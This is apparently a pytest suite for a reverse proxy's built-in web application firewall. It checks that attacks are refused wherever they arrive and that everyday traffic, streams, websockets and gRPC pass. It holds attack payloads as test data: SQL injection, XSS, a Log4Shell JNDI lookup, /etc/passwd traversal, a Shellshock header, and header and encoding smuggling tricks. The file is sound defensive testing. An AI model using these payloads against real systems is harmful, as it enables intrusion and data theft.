"""What a configuration of one line does: the rules that are part of the program judge every request, refuse attacks wherever
they come in, and leave alone what applications do all day: streams, large bodies, tunnels, calls."""

import json
import os
import random
import subprocess
import threading
import urllib.parse
import zlib

import pytest
from harness import http2
from harness.client import request
from harness.deadline import eventually
from harness.gate import binary_path
from harness.http2 import Http2Client, block, data, headers
from harness.http2_origin import Http2Origin
from harness.origin import response
from harness.websocket import TEXT, agreement, frame, handshake, read_frame

ONE_LINE = "listen 127.0.0.1:0 h2c\nlimits { body 200M }\nsite * { to @origin }"
JUDGED = {"judged": True}
FORM = "Content-Type: application/x-www-form-urlencoded"
JSON = "Content-Type: application/json"

ATTACKS = {  # our own words; the reasons of the records
    "sqli": ("1' OR 'a'='a' UNION SELECT name, pass FROM users-- -", "waf.sqli"),
    "xss": ("<script>alert(document.cookie)</script>", "waf.xss"),
    "log4shell": ("${jndi:ldap://x.test/a}", "waf.java"),
    "traversal": ("../../../../../../etc/passwd", "waf.lfi"),
}


@pytest.fixture
def g(gate, origin):
    return gate(ONE_LINE, origin=origin, options=JUDGED)


def carried(attack):
    """The attack in each place that an application reads: path, method, fields, body."""
    quoted = urllib.parse.quote(attack)
    return {
        "query": (f"/find?id={quoted}", "GET", [], None),
        "form": ("/save", "POST", [FORM], f"a=1&comment={quoted}".encode()),
        "JSON": ("/api", "POST", [JSON], json.dumps({"items": [{"note": attack}]}).encode()),
        "header": ("/", "GET", [f"X-Filter: {attack}"], None),
        "cookie": ("/", "GET", [f"Cookie: theme=dark; last={quoted}"], None),
    }


def ask_h2(client, path, method, fields, body):
    number, client.next_stream = client.next_stream, client.next_stream + 2
    pairs = [(name.lower(), value) for name, _, value in (line.partition(": ") for line in fields)]
    client.send(http2.request(number, *pairs, path=path, method=method, end=body is None))
    if body is not None:
        client.send(data(number, body))
    return client.response(number)


# --- What is refused -----------------------------------------------------------------------------------


def test_attacks_are_refused_wherever_they_come_in(g, origin):
    with Http2Client(g.addresses()[1]) as second:
        for kind, (attack, reason) in ATTACKS.items():
            for place, sent in carried(attack).items():
                g.security_log.skip()
                with g.client() as client:
                    client.send(request(sent[0], method=sent[1], fields=sent[2], body=sent[3]))
                    answer = client.response()
                assert answer.status == 403, (kind, place)
                assert ask_h2(second, *sent).status == 403, (kind, place, "HTTP/2")
                records = g.security_log.wait(2)
                assert {record["reason"] for record in records} == {reason}, (kind, place, records)
                assert all(record["id"] != records[0]["id"] for record in records[1:])
                assert answer.get("x-request-id") == records[0]["id"]
                assert records[0]["id"] in answer.body.decode(), "the page names the id"
                assert attack not in answer.body.decode()
    assert origin.has_no_connection()


def test_a_second_field_of_a_name_hides_nothing(g, origin):
    form, escaped = b"q=%27+union+select+1%2C2+from+users--", rb'{"a":"\u0027 \u0075nion select 1,2 from users--"}'
    kinds = {"form": "application/x-www-form-urlencoded", "json": "application/json", "png": "image/png"}
    with g.client() as client:
        client.send(request(fields=["User-Agent: Mozilla/5.0", "User-Agent: () { :;}; /bin/id"]))
        assert client.response().status == 403
    assert g.security_log.wait(1)[0]["reason"] == "waf.scanner"
    for first, second, body in (("png", "form", form), ("form", "json", escaped), ("json", "form", escaped)):
        g.security_log.skip()
        fields = [f"Content-Type: {kinds[first]}", f"Content-Type: {kinds[second]}"]
        with g.client() as client:
            client.send(request(method="POST", fields=fields, body=body))
            assert client.response().status == 400, (first, second)
        record = g.security_log.wait(1)[0]
        assert record["reason"] == "waf.protocol" and "Content-Type that differ" in str(record["waf"]), record
    assert origin.has_no_connection()


@pytest.mark.parametrize("first, second", [("identity", "deflate"), ("", "deflate"), ("deflate", "identity")])
def test_a_second_coding_hides_nothing(g, origin, first, second):
    attack = "q=%27+union+select+1%2C2+from+users--&other="
    compressed = (zlib.compress((attack + "".join(random.Random(i).choices("abcdefghijklmnop", k=200))).encode()) for i in range(10000))
    body = next(text for text in compressed if b"\0" not in text)  # which would be refused as it is
    with g.client() as client:
        client.send(request(method="POST", fields=["Content-Type: application/x-www-form-urlencoded", f"Content-Encoding: {first}",
                                                   f"Content-Encoding: {second}"], body=body))
        assert client.response().status == 403
    assert g.security_log.wait(1)[0]["reason"] == "waf.sqli"
    assert origin.has_no_connection()


def test_the_record_says_why_a_body_cannot_be_read(g, origin):
    origin.serve()
    parts = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--\r\n'
    multipart = "Content-Type: multipart/form-data; boundary="
    for kind, body, said in [(JSON, b'{"a":1,}', "The request body cannot be read: JSON: "), (multipart + "x", b"before\r\n" + parts, "MULTIPART_DATA_BEFORE")]:
        g.security_log.skip()
        with g.client() as client:
            client.send(request(method="POST", fields=[kind], body=body))
            assert client.response().status == 400
        rule = g.security_log.wait(1)[0]["waf"]["rules"][0]
        assert said in rule["msg"] + rule["target"] and "…" not in rule["msg"], rule
    parts = parts.replace(b'"a"', b"file; filename=a.txt; filename*=utf-8''a.txt")
    with g.client() as client:  # what HttpClient of .NET writes
        client.send(request(method="POST", fields=[multipart + '"x"'], body=parts))
        assert client.response().status == 200


def test_the_record_names_the_rule_and_the_bytes_that_matched(g):
    with g.client() as client:
        assert client.get("/find?comment=a%20%3Cscript%3Ealert(1)%3C/script%3E").status == 403
    record = g.security_log.wait(1)[0]
    assert record["reason"] == "waf.xss" and record["text"].startswith("cross-site scripting: rule 81")
    waf = record["waf"]
    assert waf["verdict"] == "refused" and waf["score"] >= waf["threshold"] == 5
    assert any("<script" in rule["matched"] and rule["target"].upper() == "ARGS:COMMENT" for rule in waf["rules"])
    assert all(8100000 < rule["id"] < 8200000 and rule["msg"] for rule in waf["rules"])
    story = g.command("explain", record["id"], check=0).stdout
    assert "waf          refused, enforce" in story and "(built in)" in story and "portcullis exclude" in story


def test_it_is_written_off_and_into_shadow(gate, origin):
    origin.serve()
    g = gate("""
        site * {
          to @origin
          route /off/* { waf off }
          route /shadow/* { waf mode shadow }
          route /low/* { waf low }
        }""", origin=origin, options=JUDGED)
    attack = urllib.parse.quote(ATTACKS["sqli"][0])
    for path, status in (("/off/", 200), ("/shadow/", 200), ("/low/", 200), ("/", 403)):
        with g.client() as client:
            assert client.get(f"{path}?q={attack}").status == status, path
    verdicts = [record["waf"]["verdict"] for record in g.security_log.wait(3)]
    assert sorted(verdicts) == ["noticed", "refused", "would-refuse"]
    judged = [record["uri"].partition("?")[0] for record in g.requests_log.wait(4) if "waf_us" in record]
    assert sorted(judged) == ["/", "/low/", "/shadow/"]


def test_show_tells_what_judges_and_who_says_so(g):
    done = subprocess.run([binary_path(), "show", "effective", "a.test", "/", "-c", g.config_path], capture_output=True, text=True, check=True)
    told = [line.split() for line in done.stdout.splitlines() if line.split()[0] == "waf"]
    assert ["waf", "balanced", "built", "in"] in told and ["waf", "rules", "builtin", "built", "in"] in told


def test_show_tells_the_level_that_a_mode_leaves_and_the_mode_that_a_level_leaves(tmp_path):
    path = tmp_path / "portcullis.conf"
    path.write_text("""listen :1
policy watched { waf strict mode shadow }
site a.test { respond 200; waf mode shadow; route /in/* { waf mode enforce { body 2M } } }
site b.test { use watched; respond 200; route /low/* { waf low } route /both/* { waf paranoid mode enforce } }
""")
    for host, target, value, line in (
        ("a.test", "/", "balanced mode shadow", 3), ("a.test", "/in/x", "balanced mode enforce", 3), ("b.test", "/", "strict mode shadow", 2),
        ("b.test", "/low/x", "low mode shadow", 4), ("b.test", "/both/x", "paranoid mode enforce", 4),
    ):
        done = subprocess.run([binary_path(), "show", "effective", host, target, "--json", "-c", path], capture_output=True, text=True, check=True)
        [told] = [one for one in json.loads(done.stdout)["settings"] if one["setting"] == "waf"]
        assert (told["value"], told["where"].split(":")[-2]) == (value, str(line)), (host, target)


# --- What passes ----------------------------------------------------------------------------------------


def test_everyday_requests_pass_unchanged(g, origin):
    origin.serve(lambda got, connection: response(got.body))
    sent = [
        request("/?name=O%27Reilly&q=select+a+size&from=union+station"),
        request("/a/b%20c.html?utm_source=x&redirect=%2Fcart", fields=["Referer: https://search.test/?q=drop+table+lamp", "Accept: */*"]),
        request("/save", method="POST", body=b"title=Tom+%26+Jerry&text=5+%3E+3+%26+%22so%22+on%3B+--+it%27s+5+o%27clock", fields=[FORM]),
        request("/api", method="POST", body=json.dumps({"a": [1, "it's", None], "sql": "how to select"}).encode(), fields=[JSON]),
        request("/api", method="PATCH", body=b'{"a":"<b>bold</b>"}', fields=[JSON]),
        request("/x", method="DELETE"),
        request("/x", method="OPTIONS", fields=["Origin: https://a.test", "Access-Control-Request-Method: PUT"]),
        request("/photo", method="PUT", body=os.urandom(50_000), fields=["Content-Type: image/png"]),
        request("/upload", method="POST", body=b"--zQ7\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\n\r\n"
                + os.urandom(20_000).replace(b"--zQ7", b"") + b"\r\n--zQ7--\r\n", fields=["Content-Type: multipart/form-data; boundary=zQ7"]),
        request("/", fields=["Authorization: Basic dXNlcjpwYXNz", "Cookie: session=8f14e45fceea167a; theme=dark"]),
    ]
    with g.client() as client:
        for one in sent:
            client.send(one)
            answer = client.response()
            assert answer.status == 200, one
            assert answer.body == one.partition(b"\r\n\r\n")[2]
        client.send(b"".join(request(f"/pipelined/{i}") for i in range(20)))
        assert [client.response().status for _ in range(20)] == [200] * 20
    assert g.security_log.records() == []


def test_a_large_binary_upload_streams_and_takes_no_room(g, origin):
    pieces, piece = 100, os.urandom(1 << 20)
    with g.client() as client:
        sending = threading.Thread(target=client.send, args=(
            request("/up", method="POST", fields=[f"Content-Length: {pieces << 20}", "Content-Type: application/octet-stream"]),
            *[piece] * pieces))
        sending.start()
        connection = origin.accept()
        assert connection.request_head().get("content-length") == str(pieces << 20)
        for i in range(pieces):
            assert connection.recv_exactly(1 << 20) == piece
            connection.received = b""
            if i == pieces // 2:
                assert g.metrics().get("portcullis_held_bytes") <= 1 << 20, "nothing of it is held"
        sending.join()
        connection.respond()
        assert client.response().status == 200


def test_parts_of_files_are_looked_at_as_they_come_and_passed_on_whole(g, origin):
    origin.serve(lambda got, connection: response(str(len(got.body)).encode()))
    body = b"--zQ7\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\nContent-Type: video/mp4\r\n\r\n" \
        + os.urandom(1 << 20).replace(b"--zQ7", b"") * 8 + b"\r\n--zQ7--\r\n"
    with g.client() as client:
        client.send(request("/up", method="POST", body=body, fields=["Content-Type: multipart/form-data; boundary=zQ7"]))
        answer = client.response()
        assert (answer.status, answer.body) == (200, str(len(body)).encode())
    eventually(lambda: g.metrics().get("portcullis_held_bytes") == 0, "all of it given back")


def test_what_an_origin_says_in_pieces_comes_in_pieces(g, origin):
    for kind in ("text/event-stream", "text/html", "application/json"):
        with g.client() as client:
            client.send(request("/events"))
            connection = origin.accept()
            connection.request()
            connection.send(f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
            connection.send(b"3\r\none\r\n")
            assert client.response_head().status == 200
            assert client.recv_until(b"one\r\n") == b"3\r\none\r\n"
            connection.send(b"3\r\ntwo\r\n0\r\n\r\n")
            assert client.recv_until(b"0\r\n\r\n") == b"3\r\ntwo\r\n0\r\n\r\n"
        connection.close()


def test_ranges_heads_interim_answers_and_long_polls_pass(g, origin):
    with g.client() as client:
        client.send(request("/film", fields=["Range: bytes=0-3"]))
        connection = origin.accept()
        assert connection.request().get("range") == "bytes=0-3"
        connection.respond(b"abcd", "206 Partial Content", ["Content-Range: bytes 0-3/10", "Content-Type: video/mp4"])
        assert client.response().status == 206
        client.send(request("/film", method="HEAD"))
        connection.request()
        connection.send(b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\nContent-Type: text/html\r\n\r\n")
        assert client.response("HEAD").get("content-length") == "10"
        client.send(request("/save", method="POST", fields=["Content-Length: 3", "Expect: 100-continue", FORM]))
        assert client.response_head().status == 100
        client.send(b"a=1")
        assert connection.request().body == b"a=1"
        connection.send(b"HTTP/1.1 103 Early Hints\r\nLink: </a.css>; rel=preload\r\n\r\n")
        assert client.response_head().status == 103
        connection.respond()
        assert client.response().status == 200
        client.send(request("/poll"))
        connection.request()
        with g.client() as other:  # while that one waits
            other.send(request("/"))
            origin.exchange()
            assert other.response().status == 200
        connection.respond(b"news")
        assert client.response().body == b"news"


# --- What stays open keeps nothing -----------------------------------------------------------------------


def open_websocket(g, origin):
    client = g.client().send(handshake(fields=["Origin: https://a.test"]))
    connection = origin.accept()
    connection.request_head()
    connection.send(agreement())
    assert client.response().status == 101
    return client, connection


def open_events(g, origin):
    client = g.client().send(request("/events"))
    connection = origin.accept()
    connection.request()
    connection.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\ndata: 1\n\n")
    assert client.response_head().status == 200
    client.recv_until(b"data: 1\n\n")
    return client, connection


@pytest.mark.parametrize("rules", ["builtin", "own"])
@pytest.mark.parametrize("begin", [open_websocket, open_events])
def test_what_stays_open_keeps_nothing_of_the_rules(gate, origin, tmp_path, begin, rules):
    path = tmp_path / "own.conf"
    path.write_text('SecAction "id:1,phase:1,pass,nolog,setvar:tx.a=1"\nSecRule TX:a "@eq 2" "id:2,phase:5,pass,log"\n')
    config = ONE_LINE if rules == "builtin" else f"site * {{ to @origin; waf balanced {{ rules {path} }} }}"
    g = gate(config, origin=origin, options=JUDGED)
    pairs = [begin(g, origin) for _ in range(20)]
    eventually(lambda: g.metrics().get("portcullis_held_bytes") == 0, "the memory of the rules back")
    assert g.metrics().get("portcullis_buffered_bytes") <= 20 * 16384, "a buffer of each at most"
    for client, connection in pairs:
        connection.send(b"more")
        client.recv_until(b"more")
        client.close()
        connection.close()
    assert all("waf_us" in record for record in g.requests_log.wait(20))


TIMED = """
SecRule REQUEST_URI "@contains watch" "id:1,phase:1,pass,nolog,setvar:tx.is_watched=1"
SecRule TX:is_watched "@eq 1" "id:2,phase:5,pass,log,msg:'the end'%s"
"""


@pytest.mark.parametrize("asks", ["", ",logdata:'after %{DURATION} ms'"])
def test_the_last_phase_runs_once_and_its_findings_are_told_at_the_end(gate, origin, tmp_path, asks):
    path = tmp_path / "own.conf"
    path.write_text(TIMED % asks)
    g = gate("site * { to @origin; waf balanced { rules @rules } }", origin=origin, rules=path)
    with g.client() as client:
        client.send(request("/watch"))
        connection = origin.accept()
        connection.request()
        connection.send(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nabc")
        assert client.response_head().status == 200
        client.recv_exactly(3)
        assert g.security_log.records() == []
        connection.send(b"def")
        assert client.recv_exactly(3) == b"def"
    record = g.security_log.wait(1)[0]
    assert [(rule["id"], rule["msg"]) for rule in record["waf"]["rules"]] == [(2, "the end")]
    assert len(g.security_log.records()) == 1


# --- Tunnels and calls -----------------------------------------------------------------------------------


def test_a_websocket_is_judged_by_its_head_alone(g, origin):
    with g.client() as client:
        client.send(handshake("/ws?room=" + urllib.parse.quote(ATTACKS["sqli"][0])))
        assert client.response().status == 403
    client, connection = open_websocket(g, origin)
    client.send(frame(ATTACKS["xss"][0].encode(), TEXT, masked=True))
    assert read_frame(connection)[1] == ATTACKS["xss"][0].encode()
    client.close()


def connect(client, path):
    number, client.next_stream = client.next_stream, client.next_stream + 2
    client.send(headers(number, block((":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "http"), (":authority", "a.test"),
                                      (":path", path), ("sec-websocket-version", "13")), end=False))
    return number


def test_a_websocket_over_http2_is_too(g, origin):
    with Http2Client(g.addresses()[1]) as client:
        assert client.response(connect(client, "/ws?q=" + urllib.parse.quote(ATTACKS["xss"][0]))).status == 403
        number = connect(client, "/ws")
        connection = origin.accept()
        got = connection.request_head()
        connection.send(agreement(got.get("sec-websocket-key")) + b"down")
        client.read_until(lambda: client.stream(number).body == b"down")
        client.send(data(number, ATTACKS["sqli"][0].encode(), end=False))
        assert connection.recv_exactly(len(ATTACKS["sqli"][0])) == ATTACKS["sqli"][0].encode()


def test_calls_flow_both_ways_and_keep_their_trailers(gate):
    with_origin = Http2Origin()
    try:
        g = gate("listen 127.0.0.1:0 h2c\nsite * { to grpc://@origin }", origin=with_origin, options=JUDGED)
        with Http2Client(g.addresses()[1]) as client:
            number, client.next_stream = client.next_stream, client.next_stream + 2
            client.send(http2.request(number, ("content-type", "application/grpc"), ("te", "trailers"), path="/pkg.Service/Method",
                                      method="POST", end=False))
            connection = with_origin.accept()
            at = connection.request_head()
            client.send(data(number, b"\0\0\0\0\5first", end=False))
            connection.read_until(lambda: connection.stream(at).body == b"\0\0\0\0\5first")
            connection.head(at, fields=[("content-type", "application/grpc")])
            connection.send(data(at, b"\0\0\0\0\2ok", end=False))
            client.read_until(lambda: client.stream(number).body == b"\0\0\0\0\2ok")
            client.send(data(number, b"", end=True))
            connection.read_until(lambda: connection.stream(at).is_over)
            connection.send(headers(at, block(("grpc-status", "0"))))
            assert client.response(number).trailers == [("grpc-status", "0")]
    finally:
        with_origin.close()


# --- Who sends slowly ------------------------------------------------------------------------------------


def test_slow_uploads_that_are_held_stay_within_their_limits(gate, origin):
    origin.serve()
    g = gate("limits { held 16M }\nsite * { to @origin }", origin=origin, options=JUDGED)
    head = request("/save", method="POST", fields=["Content-Length: 1000000", FORM])
    clients = [g.client().send(head + b"a=" + b"x" * 600_000) for _ in range(60)]
    try:
        eventually(lambda: len(g.security_log.records()) >= 20, "what does not fit to be refused")
        assert g.metrics().get("portcullis_held_bytes") <= 16 << 20
        assert {(r["reason"], r["status"]) for r in g.security_log.records()} == {("limits.held", 503)}
        with g.client() as client:
            assert client.get("/?q=1").status == 200, "who wants little is served all the same"
    finally:
        for client in clients:
            client.close()
    eventually(lambda: g.metrics().get("portcullis_held_bytes") == 0, "all of it given back")
    with g.client() as client:
        client.send(request("/save", method="POST", body=b"a=" + b"x" * 900_000, fields=[FORM]))
        assert client.response().status == 200
